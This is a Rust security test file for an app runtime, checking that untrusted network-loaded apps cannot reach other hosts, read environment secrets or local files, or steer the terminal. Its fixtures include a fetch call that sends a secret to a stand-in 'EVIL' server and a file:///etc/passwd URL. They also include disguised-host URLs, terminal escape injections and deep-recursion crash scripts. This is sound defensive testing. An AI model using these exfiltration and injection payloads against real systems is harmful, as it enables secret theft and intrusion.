//! Security of apps from the network, tried with an app that tries everything.

use std::collections::BTreeSet;
use std::io::{Read, Write};
use std::net::{SocketAddr, TcpListener, TcpStream};
use std::process::Output;
use std::sync::{Arc, Mutex};
use std::thread;
use std::time::Duration;

use crate::apps::Folder;
use crate::cli::program;

/// A server that answers every path, and remembers what it was asked.
pub struct RecordingServer {
    address: SocketAddr,
    asked: Arc<Mutex<Vec<String>>>,
}

impl RecordingServer {
    /// `answer` is given the path and returns the whole answer.
    pub fn start(answer: impl Fn(&str) -> String + Send + Sync + 'static) -> Self {
        let listener = TcpListener::bind("127.0.0.1:0").unwrap();
        let address = listener.local_addr().unwrap();
        let asked = Arc::<Mutex<Vec<String>>>::default();
        let (shared, answer) = (asked.clone(), Arc::new(answer));
        thread::spawn(move || {
            for socket in listener.incoming().flatten() {
                let (shared, answer) = (shared.clone(), answer.clone());
                thread::spawn(move || serve(socket, &shared, &*answer));
            }
        });
        Self { address, asked }
    }

    /// The address of a path.
    pub fn url(&self, path: &str) -> String {
        format!("http://{}{path}", self.address)
    }

    /// The first lines of all requests.
    fn asked(&self) -> Vec<String> {
        self.asked.lock().unwrap().clone()
    }

    /// The first parts of the paths that were asked for.
    fn paths(&self) -> BTreeSet<String> {
        let path = |line: String| line.split(['?', ' ']).nth(1).unwrap_or_default().to_owned();
        self.asked().into_iter().map(path).collect()
    }
}

fn serve(mut socket: TcpStream, asked: &Mutex<Vec<String>>, answer: &dyn Fn(&str) -> String) {
    socket.set_read_timeout(Some(Duration::from_secs(20))).unwrap();
    let (mut head, mut buffer) = (Vec::new(), [0; 2048]);
    while !head.windows(4).any(|four| four == b"\r\n\r\n") {
        match socket.read(&mut buffer) {
            Ok(read) if read > 0 => head.extend_from_slice(&buffer[..read]),
            _ => return,
        }
    }
    let head = String::from_utf8_lossy(&head).into_owned();
    let line = head.lines().next().unwrap_or_default().to_owned();
    let path = line.split(' ').nth(1).unwrap_or_default().to_owned();
    asked.lock().unwrap().push(line);
    // A client that has disconnected is no fault.
    let _ = socket.write_all(answer(&path).as_bytes());
}

/// A whole answer.
pub fn answer(status: &str, headers: &str, body: &str) -> String {
    format!("HTTP/1.1 {status}\r\nConnection: close\r\nContent-Length: {}\r\n{headers}\r\n{body}", body.len())
}

/// An app that tries to reach servers, files, the environment and the desktop without a press.
const STRANGER: &str = r#"
View:
  onLoad:
    executeActionGroup:
      actions:
        - invokeAPI: {name: request}
        - invokeAPI: {name: stream}
        - invokeAPI: {name: redirected}
        - invokeAPI: {name: proxied}
        - invokeAPI: {name: login}
        - invokeAPI: {name: home}
        - openUrl: {url: "EVIL/opened"}
        - openUrl: {url: "file:///etc/passwd"}
  body:
    Column:
      children:
        - Text: {text: "secret: ${env.STRANGER_WORD} home: ${home.body.ok}"}
        - Image: {source: "EVIL/picture.png", width: 10, height: 10}
        - Image: {source: icon.png, width: 10, height: 10}
API:
  request: {url: "EVIL/request?k=${env.STRANGER_WORD}"}
  stream: {type: sse, url: "EVIL/stream?k=${env.STRANGER_WORD}"}
  redirected: {url: "HOME/away"}
  proxied: {type: sse, url: "HOME/proxied", sseOptions: {proxy: "EVIL"}}
  login: {url: "HOME/data", authorization: {oauth2: {tokenUrl: "EVIL/token", clientId: me, clientSecret: s}}}
  home: {url: "HOME/data"}
"#;

/// Opens the untrusted app by its address, without a window. The two servers are its own and the one that it should not reach.
fn open_stranger(args: &[&str]) -> (Output, RecordingServer, RecordingServer) {
    let (home, evil) = servers();
    let url = home.url("/app.yaml");
    let mut all = vec!["screenshot", &url, "--tree", "-", "--wait-text", "home: yes", "--wait", "700"];
    all.extend(args);
    let output = program(&all).env("STRANGER_WORD", "hunter2-of-the-process").output().unwrap();
    (output, home, evil)
}

/// The server of the untrusted app, and the one that it should not reach.
fn servers() -> (RecordingServer, RecordingServer) {
    let evil = RecordingServer::start(|_| answer("200 OK", "Content-Type: text/plain\r\n", "x"));
    let away = evil.url("/redirected");
    let addresses = Arc::new(Mutex::new((String::new(), evil.url(""))));
    let known = addresses.clone();
    let home = RecordingServer::start(move |path| match path {
        "/away" => answer("302 Found", &format!("Location: {away}\r\n"), ""),
        "/data" => answer("200 OK", "Content-Type: application/json\r\n", r#"{"ok": "yes"}"#),
        _ => {
            let (home, evil) = known.lock().unwrap().clone();
            answer("200 OK", "Content-Type: text/yaml\r\n", &STRANGER.replace("HOME", &home).replace("EVIL", &evil))
        }
    });
    addresses.lock().unwrap().0 = home.url("");
    (home, evil)
}

fn texts(output: &Output) -> (String, String) {
    let text = |bytes: &[u8]| String::from_utf8(bytes.to_vec()).unwrap();
    (text(&output.stdout), text(&output.stderr))
}

#[test]
fn an_app_from_the_network_reaches_its_own_server_only_and_reads_no_environment() {
    let (output, home, evil) = open_stranger(&[]);
    let (stdout, stderr) = texts(&output);
    assert_eq!(evil.asked(), [""; 0], "{stderr}");
    assert!(home.paths().contains("/data"), "{stderr}");
    assert!(stdout.contains("home: yes") && !stdout.contains("hunter2"), "{stdout}");
    assert!(stderr.contains("--allow-host 127.0.0.1"), "{stderr}");
    assert!(stderr.contains("E0512") && stderr.contains("`file:`"), "{stderr}");
    assert!(
        stderr.contains("E0510") && stderr.contains("icon.png"),
        "the folder of the program is none of the app's: {stderr}"
    );
    assert!(!stderr.contains("hunter2"), "{stderr}");
}

#[test]
fn what_the_command_line_allows_is_reached_and_what_it_gives_is_read() {
    let (output, home, evil) = open_stranger(&["--allow-host", "127.0.0.1", "--env", "STRANGER_WORD=given"]);
    let (stdout, stderr) = texts(&output);
    let reached: BTreeSet<String> =
        ["/picture.png", "/redirected", "/request", "/stream", "/token"].into_iter().map(str::to_owned).collect();
    let mut asked = evil.paths();
    assert!(asked.remove(&home.url("/proxied")), "{asked:?} {stderr}");
    assert_eq!(asked, reached, "{stderr}");
    assert!(evil.asked().iter().any(|line| line.contains("/request?k=given")), "{:?}", evil.asked());
    assert!(stdout.contains("secret: given"), "{stdout}");
    assert!(!stderr.contains("is not allowed"), "{stderr}");
}

/// Other ways out: scripts, sockets, pictures of every kind, redirects of pictures, addresses that look like the app's own.
const OTHER_WAYS: &str = r#"
Socket:
  chat: {uri: "ws://EVIL_HOST/socket", options: {reconnectInitialTimer: 9}}
View:
  onLoad:
    executeActionGroup:
      actions:
        - executeCode: "fetch('EVIL/fetched?k=' + env.STRANGER_WORD).catch(error => console.log(error.message))"
        - connectSocket: {name: chat}
        - invokeAPI: {name: disguised}
        - invokeAPI: {name: relative}
        - invokeAPI: {name: posted}
        - invokeAPI: {name: home}
  body:
    Column:
      children:
        - Text: {text: "home: ${home.body.ok}"}
        - Avatar: {source: "EVIL/avatar.png"}
        - Lottie: {source: "EVIL/motion.json", width: 10, height: 10}
        - Image: {source: "HOME/away.png", width: 10, height: 10}
        - Image: {source: "data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' width='9' height='9'><image href='EVIL/inner.png' width='9' height='9'/></svg>", width: 10, height: 10}
        - Map: {tileSource: "EVIL/tiles/{z}/{x}/{y}.png", height: 60, initialCameraPosition: {lat: 1, lng: 1}, initialCameraZoom: 2}
        - Markdown: {text: "![x](EVIL/markdown.png)"}
        - Html: {text: "<p>a</p><img src='EVIL/html.png'><meta http-equiv='refresh' content='0;url=EVIL/refresh'>"}
API:
  disguised: {url: "http://HOME_HOST@EVIL_HOST/disguised"}
  relative: {url: "HOME/relative"}
  posted: {url: "HOME/posted", method: POST, headers: {X-Tenant: t-1, Authorization: Bearer abcdef}, body: {secret: s-1}}
  home: {url: "HOME/data"}
"#;

#[test]
fn no_other_way_leads_out_and_none_is_closed_to_what_is_allowed() {
    let start = || {
        let evil = RecordingServer::start(|_| answer("200 OK", "Content-Type: text/plain\r\n", "x"));
        let places = Arc::new(Mutex::new((String::new(), evil.url(""))));
        let known = places.clone();
        let home = RecordingServer::start(move |path| {
            let (home, evil) = known.lock().unwrap().clone();
            let to = |status: &str, address: &str| answer(status, &format!("Location: {address}\r\n"), "");
            match path {
                "/data" => answer("200 OK", "Content-Type: application/json\r\n", r#"{"ok": "yes"}"#),
                "/away.png" => to("302 Found", &format!("{evil}/away.png")),
                "/relative" => {
                    to("301 Moved Permanently", &format!("/a/../..{}/relative", evil.trim_start_matches("http:")))
                }
                "/posted" => to("307 Temporary Redirect", &format!("{evil}/posted")),
                "/app.yaml" => {
                    let host = |address: &str| address.trim_start_matches("http://").to_owned();
                    let app = OTHER_WAYS.replace("HOME_HOST", &host(&home)).replace("EVIL_HOST", &host(&evil));
                    answer("200 OK", "Content-Type: text/yaml\r\n", &app.replace("HOME", &home).replace("EVIL", &evil))
                }
                _ => answer("404 Not Found", "", ""),
            }
        });
        places.lock().unwrap().0 = home.url("");
        (home, evil)
    };
    let open = |home: &RecordingServer, args: &[&str]| {
        let url = home.url("/app.yaml");
        let all = [&["screenshot", &url, "--tree", "-", "--wait-text", "home: yes", "--wait", "700"], args].concat();
        texts(&program(&all).env("STRANGER_WORD", "hunter2-of-the-process").output().unwrap())
    };
    let (home, evil) = start();
    let (stdout, stderr) = open(&home, &[]);
    assert!(stdout.contains("home: yes"), "{stdout}{stderr}");
    assert_eq!(evil.asked(), [""; 0], "{stderr}");
    assert!(!stderr.contains("hunter2") && stderr.contains("--allow-host 127.0.0.1"), "{stderr}");
    let (home, evil) = start();
    let (_, stderr) = open(&home, &["--allow-host", "127.0.0.1"]);
    let reached = evil.paths();
    for path in ["/fetched", "/socket", "/avatar.png", "/motion.json", "/away.png", "/disguised", "/posted"] {
        assert!(reached.contains(path), "{path} is not in {reached:?}: {stderr}");
    }
    assert!(reached.iter().any(|path| path.starts_with("/tiles/2/")), "{reached:?}: {stderr}");
    for path in ["/inner.png", "/refresh"] {
        assert!(!reached.contains(path), "{path}: {reached:?}");
    }
    // `/a/../..//host` is a path of the own server.
    assert!(
        home.asked().iter().any(|line| line.contains("/relative HTTP") && line.starts_with("GET //")),
        "{:?}",
        home.asked()
    );
    assert!(!evil.asked().iter().any(|line| line.contains("hunter2")), "{:?}", evil.asked());
}

#[test]
fn listening_to_a_stranger_reaches_what_its_window_would() {
    let (home, evil) = servers();
    let url = home.url("/app.yaml");
    let args = ["listen", "--app", &url, "--api", "stream", "--format", "human", "--max-reconnect-attempts", "0"];
    let (stdout, stderr) = texts(&program(&args).env("STRANGER_WORD", "hunter2-of-the-process").output().unwrap());
    assert!(stdout.contains("--allow-host 127.0.0.1"), "{stdout}{stderr}");
    assert_eq!(evil.asked(), [""; 0]);
    let allowed = [&args[..], &["--allow-host", "127.0.0.1"]].concat();
    program(&allowed).env("STRANGER_WORD", "hunter2-of-the-process").output().unwrap();
    assert_eq!(evil.asked(), ["GET /stream?k= HTTP/1.1"]);
}

#[test]
fn an_app_is_not_taken_from_another_server_than_was_named() {
    let evil = RecordingServer::start(|_| answer("200 OK", "", "View: {body: {Text: {text: evil}}}"));
    let away = evil.url("/app.yaml");
    let home = RecordingServer::start(move |_| answer("302 Found", &format!("Location: {away}\r\n"), ""));
    let output = program(&["screenshot", &home.url("/app.yaml"), "--tree", "-"]).output().unwrap();
    let (stdout, stderr) = texts(&output);
    assert_eq!((output.status.code(), stdout.as_str()), (Some(1), ""), "{stderr}");
    assert!(stderr.contains("its server sends to") && stderr.contains("open that address"), "{stderr}");
    assert_eq!(evil.asked(), [""; 0]);
}

#[test]
fn check_reads_an_app_by_its_address_and_runs_nothing_of_it() {
    let faulty = "View:\n  onLoad: {invokeAPI: {name: away}}\n  body:\n    Text: {lable: a, text: '${env.STRANGER_WORD}'}\nAPI:\n  away: {url: EVIL/x}\n";
    let evil = RecordingServer::start(|_| answer("200 OK", "", "x"));
    let body = faulty.replace("EVIL", &evil.url(""));
    let home = RecordingServer::start(move |path| match path {
        "/app.yaml" => answer("200 OK", "Content-Type: text/yaml\r\n", &body),
        _ => answer("404 Not Found", "", "there is none"),
    });
    let check = |args: &[&str]| {
        let output = program(&[&["check"], args].concat()).env("STRANGER_WORD", "hunter2").output().unwrap();
        let (stdout, stderr) = texts(&output);
        (output.status.code(), stdout, stderr)
    };
    let url = home.url("/app.yaml");
    let (code, stdout, stderr) = check(&[&url, "--fix"]);
    assert_eq!(code, Some(0), "{stdout}{stderr}");
    assert!(stdout.contains("unknown property `lable` on `Text`") && stdout.contains(&format!("{url}:4:")), "{stdout}");
    assert!(stderr.contains("0 faults mended in 0 files") && !stdout.contains("hunter2"), "{stderr}");
    assert_eq!((evil.asked(), home.paths().len()), (Vec::new(), 1));
    let missing = home.url("/none.yaml");
    let (code, stdout, _) = check(&[&missing, "--format", "json"]);
    let fault: serde_json::Value = serde_json::from_str(stdout.trim()).unwrap();
    assert_eq!((code, &fault["code"]), (Some(1), &serde_json::json!("E0110")), "{stdout}");
    let message = fault["message"].as_str().unwrap();
    assert!(message.contains(&missing) && message.contains("404"), "{message}");
    assert!(fault["help"].as_str().is_some_and(|help| help.contains("file or folder")), "{stdout}");
}

/// Untrusted names, files and texts, printed by every command.
#[test]
fn no_command_lets_a_stranger_steer_the_terminal() {
    const EVIL: &str = "\u{1b}[2J\u{9b}1m\u{202e}\u{7}\u{2066}x";
    let name = format!("evil{EVIL}");
    let text = format!(
        "View:\n  title: \"{EVIL}\"\n  onLoad:\n    executeCode:\n      body: |-\n        console.log(\"{EVIL}\"); nothing.at;\n  body:\n    \
         Column:\n      children:\n        - Text: {{text: \"{EVIL}\", colour: \"{EVIL}\"}} # {EVIL}\n        - \"Wid{EVIL}\": {{}}\n  \
         \"key{EVIL}\": 1\nAPI:\n  feed: {{type: sse, url: \"http://127.0.0.1:9/{EVIL}\"}}\n"
    );
    // YAML takes no raw control characters, so it has them as escapes; comments and file names have what is left.
    let escaped: String = text
        .chars()
        .map(|c| if ensemble_run::security::is_printable(c) { c.to_string() } else { format!("\\u{:04x}", c as u32) })
        .collect();
    let comment = format!("# \u{202e}\u{2066}{}\n", "comment");
    let home = format!("{comment}{escaped}");
    let test = format!("tests:\n  - id: \"t{}\"\n    steps:\n      - expectText: \"none\"\n", "\\u001b[2J\\u202e");
    let folder = Folder::new(&name, &[("screens/Home.yaml", &home), ("tests/a.test.yaml", &test)]);
    let path = folder.0.to_str().unwrap();
    let missing = format!("{path}/no{EVIL}.yaml");
    let events = RecordingServer::start(|_| {
        let data = "\u{1b}[2J\u{9b}\u{202e}\u{7f}\u{2066}";
        let body = format!(": {data}\nevent: {data}\nid: {data}\ndata: {{\"a\": \"\u{202e}\u{9b}\"}} {data}\n\n");
        answer("200 OK", "Content-Type: text/event-stream\r\n", &body)
    });
    let stream = events.url("/feed");
    let refusing = RecordingServer::start(|_| {
        answer("401 Unauthorized", "Content-Type: text/plain\r\n", "\u{1b}[2J\u{202e}\u{9b}no")
    });
    let refused = refusing.url("/feed");
    let written = folder.0.join("written.yaml");
    let json = |text: &str| serde_json::to_string(text).unwrap();
    let evil = json(EVIL);
    let document = folder.0.join("document.json");
    let schema = serde_json::json!({
        "type": "object", "properties": {EVIL: {"type": EVIL}, "a": {"$ref": format!("#/components/schemas/{EVIL}")}}
    });
    let description = serde_json::json!({
        "openapi": "3.1.0", "info": {"title": EVIL, "version": EVIL, EVIL: 1}, "servers": [{"url": "http://h/"}],
        "paths": {format!("/{EVIL}"): {"get": {"operationId": EVIL, "summary": EVIL, "responses": {
            "200": {"content": {"text/event-stream": {"schema": schema}}}
        }}}}
    });
    std::fs::write(&document, description.to_string()).unwrap();
    let tape = folder.0.join("evil.tape");
    let lines = [
        format!(r#"{{"format":"ensemble-run recording","version":1,"app":{evil},"size":[400,300],"seed":"7"}}"#),
        r#"{"at":0,"kind":"resize","width":400,"height":300}"#.to_owned(),
        format!(
            r#"{{"at":1,"kind":"stream.open","stream":1,"generation":1,"status":200,"url":{evil},"headers":{{{evil}:{evil}}},"api":"feed"}}"#
        ),
        format!(
            r#"{{"at":2,"kind":"stream.event","stream":1,"generation":1,"event":{evil},"id":{evil},"data":{evil},"api":"feed"}}"#
        ),
        format!(r#"{{"at":3,"kind":{evil}}}"#),
    ];
    std::fs::write(&tape, lines.join("\n") + "\n").unwrap();
    let (target, document, tape) = (written.to_str().unwrap(), document.to_str().unwrap(), tape.to_str().unwrap());
    let commands: Vec<Vec<&str>> = vec![
        vec!["check", path],
        vec!["check", path, "--format", "json"],
        vec!["check", &missing],
        vec![&missing],
        vec!["run", path, "--no-such", &name],
        vec!["screenshot", path, "--tree", "-"],
        vec!["screenshot", path, "--tree", "-", "--wait-text", &name, "--timeout", "300"],
        vec!["test", path],
        vec!["test", path, "--format", "json"],
        vec!["test", path, "--format", "junit"],
        vec!["test", path, &name],
        vec!["export", "asyncapi", path],
        vec!["listen", &stream, "--max-events", "1", "--format", "human", "--comments"],
        vec!["listen", &stream, "--max-events", "1", "--format", "ndjson", "--comments"],
        vec!["listen", &refused, "--format", "human"],
        vec!["listen", &refused, "--format", "ndjson"],
        vec!["listen", &name],
        vec!["listen", "--app", path, "--api", &name],
        vec!["view", &name],
        vec!["simulate", &name],
        vec!["explain", &name],
        vec!["reference", &name],
        vec!["demo", &name],
        vec!["schema", &name],
        vec!["new", path, "--from", &missing],
        vec!["check", path, "--fix"],
        vec!["new", target, "--from", document],
        vec!["new", &name, "--from", document, "--dry-run"],
        vec!["export", "asyncapi", path, "--version", "2.6"],
        vec!["export", "sse", path],
        vec!["inspect", path, "--replay", tape],
        vec!["inspect", path, "--replay", tape, "--format", "ndjson"],
        vec!["inspect", path, "--replay", tape, "--between", "0", "1"],
        vec!["why", path, "--widget", "x", "--replay", tape],
        vec!["why", path, "--widget", "x", "--replay", tape, "--format", "json"],
        vec!["why", path, "--widget", &name, "--replay", tape],
        vec!["screenshot", path, "--tree", "-", "--screen", &name],
        vec!["screenshot", path, "--tree", "-", "--tap", &name],
        vec!["screenshot", path, "--tree", "-", "--replay", tape],
        vec!["test", path, "--from", tape, "-o", "-"],
        vec!["simulate", &name, "--list"],
        vec!["simulate", path, "--fault", &name],
        vec!["gallery", &name],
        vec!["guide", &name],
        vec!["run", path, "--env", &name],
        vec!["run", path, "--env-file", &missing],
        vec!["listen", &stream, "--max-events", "1", "--header", &name],
        vec!["listen", "http://127.0.0.1:9/\u{202e}\u{9b}", "--max-reconnect-attempts", "0"],
    ];
    for command in commands {
        let output = program(&command).env("ENSEMBLE_LOG", EVIL.replace('\0', "")).output().unwrap();
        let (stdout, stderr) = texts(&output);
        for (stream, text) in [("stdout", &stdout), ("stderr", &stderr)] {
            let steers = text.chars().find(|character| !ensemble_run::security::is_printable(*character));
            assert_eq!(steers, None, "{command:?} on {stream}: {text:?}");
        }
        assert!(!stdout.is_empty() || !stderr.is_empty(), "{command:?} says something");
    }
}

/// Structures that Boa follows by recursion: each made a hundred thousand levels deep, which once overflowed the stack and ended the process.
#[test]
fn no_depth_of_objects_ends_the_process() {
    let deep = [
        "var o = {}; for (var i = 0; i < 1e5; i++) o = Object.create(o); o.x; o.y = 1",
        "var p = {}; for (var i = 0; i < 1e5; i++) p = new Proxy(p, {}); p.x; Object.keys(p)",
        "var h = {}; for (var i = 0; i < 1e5; i++) h = new Proxy({}, h); h.x",
        "var l = []; for (var i = 0; i < 1e5; i++) l = [l]; String(l); l.flat(Infinity)",
        "var t = [1].values(); for (var i = 0; i < 1e5; i++) t = t.filter(x => true); t.next()",
    ];
    for code in deep {
        let home = format!("View:\n  onLoad: |\n    {code}\n  body:\n    Text: {{text: still here}}\n");
        let folder = Folder::new("deep", &[("screens/Home.yaml", &home)]);
        let output = program(&["screenshot", folder.0.to_str().unwrap(), "--tree", "-"]).output().unwrap();
        let (stdout, stderr) = texts(&output);
        assert!(output.status.code().is_some(), "{code}: {stderr}");
        assert!(stdout.contains("still here"), "{code}: {stdout}{stderr}");
    }
}

#[test]
fn a_secret_is_printed_by_nobody() {
    const SECRET: &str = "s3cr3t/of+the app";
    let site = RecordingServer::start(|_| {
        let said = format!("no tenant {SECRET} {} {}", "s3cr3t%2Fof%2Bthe%20app", "czNjcjN0L29mK3RoZSBhcHA=");
        answer("401 Unauthorized", "Content-Type: text/plain\r\n", &said)
    });
    let home = format!(
        "View:\n  onLoad:\n    executeActionGroup:\n      actions:\n        - invokeAPI: {{name: feed}}\n        - invokeAPI: {{name: other}}\n        \
         - executeCode: console.log('it is ' + secrets.OTHER); null.x;\n  body:\n    Text: {{text: hello}}\nAPI:\n  \
         feed: {{type: sse, url: \"{}\", headers: {{X-Tenant: \"${{secrets.OTHER}}\"}}}}\n  \
         other: {{url: \"{}\", headers: {{X-Tenant: \"${{secrets.OTHER}}\"}}}}\n",
        site.url("/feed"),
        site.url("/other")
    );
    let folder =
        Folder::new("secretive", &[("screens/Home.yaml", &home), (".env.secrets", &format!("OTHER=\"{SECRET}\"\n"))]);
    let path = folder.0.to_str().unwrap();
    let says = |args: &[&str], words: &str| {
        let (stdout, stderr) = texts(&program(args).output().unwrap());
        let all = stdout + &stderr;
        assert!(all.contains(words), "{args:?}: {all}");
        for form in [SECRET, "s3cr3t%2Fof%2Bthe%20app", "czNjcjN0L29mK3RoZSBhcHA"] {
            assert!(!all.contains(form), "{args:?}: {all}");
        }
    };
    says(&["screenshot", path, "--tree", "-", "--wait", "800"], "it is ***");
    says(&["screenshot", path, "--tree", "-", "--wait", "800"], "no tenant *** *** ***");
    says(&["listen", "--app", path, "--api", "feed", "--format", "human"], "no tenant ***");
    says(&["listen", "--app", path, "--api", "feed", "--format", "ndjson"], "no tenant ***");
    // Secrets of the command line, in every form; one in a file is not visible in the list of processes.
    let token = folder.0.join("token");
    std::fs::write(&token, "s3cr3t-token\n").unwrap();
    let echo = RecordingServer::start(|_| {
        answer("401 Unauthorized", "Content-Type: text/plain\r\n", "bad s3cr3t-token and north-9")
    });
    let url = echo.url("/x");
    let headers = folder.0.join("headers");
    std::fs::write(&headers, "X-Tenant: north-9\n").unwrap();
    let (token, headers) = (token.to_str().unwrap(), format!("@{}", headers.display()));
    let args = ["listen", &url, "--bearer-file", token, "--header", &headers, "--format", "human"];
    let (stdout, stderr) = texts(&program(&args).output().unwrap());
    let all = stdout + &stderr;
    assert!(all.contains("bad *** and ***") && !all.contains("s3cr3t-token") && !all.contains("north-9"), "{all}");
}

#[test]
fn cookies_and_logins_are_printed_by_nobody() {
    let headers = "Content-Type: application/json\r\nSet-Cookie: sid=c00kie-of-the-user; Path=/\r\n";
    let site =
        RecordingServer::start(|_| answer("200 OK", headers, r#"{"said": "c00kie-of-the-user l0gin-of-the-app"}"#));
    let home = format!(
        "View:\n  onLoad: {{invokeAPI: {{name: one}}}}\n  body:\n    Text: {{text: \"${{one.statusCode}}\"}}\nAPI:\n  one:\n    \
         url: \"{}\"\n    headers: {{Authorization: \"Bearer l0gin-of-the-app\"}}\n    \
         onResponse: console.log('it said ' + response.body.said);\n",
        site.url("/one")
    );
    let folder = Folder::new("cookies", &[("screens/Home.yaml", &home)]);
    let args = ["screenshot", folder.0.to_str().unwrap(), "--tree", "-", "--wait-text", "200"];
    let (stdout, stderr) = texts(&program(&args).output().unwrap());
    assert!(stderr.contains("it said *** ***"), "{stdout}{stderr}");
}

#[test]
fn a_local_app_reads_of_the_process_what_it_lists() {
    let home = "View: {body: {Text: {text: \"<${env.LISTED_9} ${env.UNLISTED_9}>\"}}}\n";
    let folder = Folder::new("env-listed", &[("screens/Home.yaml", home), (".env.config", "LISTED_9=\n")]);
    let path = folder.0.to_str().unwrap();
    let shown = |args: &[&str]| {
        let command = [&["screenshot", path, "--tree", "-"], args].concat();
        let output = program(&command).env("LISTED_9", "one").env("UNLISTED_9", "two").output().unwrap();
        texts(&output).0
    };
    assert!(shown(&[]).contains("<one >"), "{}", shown(&[]));
    assert!(shown(&["--env-from-process"]).contains("<one two>"), "{}", shown(&["--env-from-process"]));
    let checked = program(&["check", path]).output().unwrap();
    let (stdout, stderr) = texts(&checked);
    assert!(stdout.contains("E0309") && stdout.contains("`env.UNLISTED_9`"), "{stdout}{stderr}");
    assert!(!stdout.contains("LISTED_9` a value") || !stdout.contains("`env.LISTED_9`"), "{stdout}");
}

/// Files that write to a terminal beside `shell/terminal.rs`, and only what is the program's own: names of bundled apps, counters, and
/// records in which everything else was shown by `terminal::shown`. `lsp` and the preview that
/// it starts write their protocol, JSON that a program reads and no terminal shows.
const WRITERS: [&str; 6] = [
    "src/cli/demo.rs",
    "src/cli/listen/mod.rs",
    "src/cli/listen/status.rs",
    "src/cli/lsp/mod.rs",
    "src/cli/new/live_stream.rs",
    "src/shell/preview/link.rs",
];

#[test]
fn text_goes_to_a_terminal_in_one_place() {
    let root = std::path::Path::new(env!("CARGO_MANIFEST_DIR"));
    let mut open: Vec<std::path::PathBuf> =
        ["src/cli", "src/shell", "src/testing"].map(|folder| root.join(folder)).into();
    let (mut found, mut looked_at) = (Vec::new(), 0);
    while let Some(path) = open.pop() {
        if path.is_dir() {
            open.extend(std::fs::read_dir(&path).unwrap().map(|entry| entry.unwrap().path()));
            continue;
        }
        let name = path.strip_prefix(root).unwrap().display().to_string();
        if name == "src/shell/terminal.rs" || WRITERS.contains(&name.as_str()) || !name.ends_with(".rs") {
            continue;
        }
        looked_at += 1;
        let text = std::fs::read_to_string(&path).unwrap();
        let code = text.split("#[cfg(test)]").next().unwrap().split("#[cfg(all(test,").next().unwrap();
        let writes = |line: &str| {
            let prints = [
                "println!(",
                "print!(",
                "stdout().write",
                "stdout().lock",
                "stderr().write",
                "(stderr()",
                "(io::stderr()",
            ];
            prints.iter().any(|word| line.contains(word))
                || line.contains("io::stdout()") && !line.contains("is_terminal")
        };
        let lines = code.lines().filter(|line| !line.trim_start().starts_with("//") && writes(line));
        found.extend(lines.filter(|line| !line.contains("as_fd")).map(|line| format!("{name}: {}", line.trim())));
    }
    assert!(looked_at > 60, "the sources are where they were");
    assert!(found.is_empty(), "not through shell/terminal.rs:\n{}", found.join("\n"));
}
